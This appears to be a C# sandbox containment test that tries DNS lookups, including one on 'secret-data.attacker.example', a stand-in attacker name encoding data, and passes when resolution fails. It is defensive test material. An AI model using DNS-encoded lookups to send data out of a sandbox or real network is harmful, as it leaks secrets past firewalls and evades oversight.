// Attack: resolve names through DNS (a classic exfiltration channel that slips past TCP-only firewalls).
// How: Dns.GetHostAddresses on a public name and on a name that encodes data.
// Contained when: resolution fails: no resolver config, no route, no network.
// expect-status: ok
// expect-stdout: CONTAINED
using System.Net;
var escaped = false;
foreach (var name in new[] { "example.com", "secret-data.attacker.example" })
{
    try { var a = Dns.GetHostAddresses(name); escaped = true; Console.WriteLine($"ESCAPED: {name} -> {string.Join(",", a.Select(x => x.ToString()))}"); }
    catch (Exception e) { Console.WriteLine($"{name}: {e.GetBaseException().Message}"); }
}
if (!escaped) Console.WriteLine("CONTAINED");
